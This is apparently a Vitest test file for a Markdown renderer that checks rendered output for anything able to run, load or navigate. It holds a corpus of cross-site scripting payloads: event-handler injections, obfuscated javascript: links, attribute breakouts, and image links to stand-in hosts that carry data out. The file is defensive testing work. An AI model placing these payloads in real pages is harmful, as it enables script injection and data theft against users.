import { describe, expect, it } from "vitest";
import { lexer } from "../../src/markdown/lexer";
import { highlight } from "../../src/markdown/languages";
import { renderTokens, safeHref, sanitise } from "../../src/markdown/render";

const html = (source: string) => renderTokens(lexer(source));

/** Everything in the rendered tree that could run, load or navigate. */
function dangers(source: string): string[] {
  const root = document.createElement("div");
  root.innerHTML = html(source);
  const found: string[] = [];
  for (const node of root.querySelectorAll("*")) {
    if (!/^(A|BLOCKQUOTE|BR|BUTTON|CODE|DEL|DIV|EM|H[1-6]|HR|IMG|INPUT|LI|OL|P|PRE|SPAN|STRONG|TABLE|TBODY|TD|TH|THEAD|TR|UL)$/.test(node.tagName)) found.push(node.tagName);
    for (const { name, value } of node.attributes) {
      if (/^on|^style$|^srcset$|^formaction$/.test(name)) found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:|mailto:)/.test(value)) found.push(`href=${value}`);
      if (name === "src" && !value.startsWith("data:image/")) found.push(`src=${value}`);
    }
  }
  return found;
}

const CORPUS = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><use href=//evil.example/x#y /></svg>",
  "</script><script>alert(1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><button formaction=javascript:alert(1)>x",
  "<div style=\"background:url(https://canary.example/?d=1)\">x</div>",
  "<link rel=stylesheet href=https://canary.example/x.css>",
  "<input autofocus onfocus=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](custom-app://run)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "![x](https://canary.example/?d=secret)",
  "![x](//canary.example/x.png)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![x](data:image/png\" onload=\"alert(1);base64,AAAA)",
  "![\" onerror=alert(1) x=\"](x)",
  "[x](https://a.example \"\" onmouseover=alert(1)\")",
  "```js\" onclick=\"alert(1)\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
  "- [x] <img src=x onerror=alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
];

describe("hostile Markdown", () => {
  it.each(CORPUS)("%j cannot run, load or navigate", (source) => {
    expect(dangers(source)).toEqual([]);
  });

  it("shows raw HTML as text", () => {
    const root = document.createElement("div");
    root.innerHTML = html("before <b>bold</b> <script>x</script>");
    expect(root.textContent).toContain("<b>bold</b> <script>x</script>");
    expect(root.querySelector("b")).toBeNull();
  });

  it("turns a remote image into a link that a person has to click", () => {
    expect(html("![chart](https://canary.example/c.png)")).toMatch(/<a [^>]*href="https:\/\/canary\.example\/c\.png"[^>]*>chart<\/a>/);
    expect(html("![chart](https://canary.example/c.png)")).not.toContain("<img");
  });

  it("shows a small embedded picture", () => {
    expect(html("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
  });

  it("opens links away from the page", () => {
    const link = html("[x](https://example.org/a?b=1&c=2)");
    expect(link).toContain('rel="noopener noreferrer"');
    expect(link).toContain('target="_blank"');
    expect(link).toContain("https://example.org/a?b=1&amp;c=2");
  });

  it("is a second wall on its own", () => {
    expect(sanitise('<img src="https://x/y"><a href="javascript:1">a</a><svg><script>1</script></svg>')).toBe(
      '<img><a rel="noopener noreferrer" target="_blank">a</a>',
    );
  });

  it("keeps code in a highlighted block inert", () => {
    expect(highlight("<img src=x onerror=alert(1)>", "xml")).not.toContain("<img");
  });

  it("renders deep nesting in bounded time", () => {
    const started = performance.now();
    html(`${"> ".repeat(400)}x\n\n${"*a ".repeat(4000)}`);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});

describe("links", () => {
  it.each(["https://example.org", "http://localhost:1", "mailto:a@example.org"])("accepts %s", (href) => {
    expect(safeHref(href)).toBe(href);
  });
  it.each(["ftp://x", "https:/x", "https://exa mple", "javascript:1", "", "/relative", "tel:1"])("refuses %j", (href) => {
    expect(safeHref(href)).toBeNull();
  });
});

describe("what people write", () => {
  it("renders tables with numbers to the right", () => {
    expect(html("| a | b |\n|---|---|\n| x | 12.5 % |")).toContain('<td class="num">12.5 %</td>');
  });
  it("renders task lists", () => {
    expect(html("- [x] done\n- [ ] open")).toMatch(/<input[^>]*type="checkbox"[^>]*>/);
  });
  it("keeps the language of a nested code block", () => {
    expect(html("1. one\n\n   ```rust\n   fn x() {}\n   ```")).toContain('<code data-lang="rust">');
  });
});
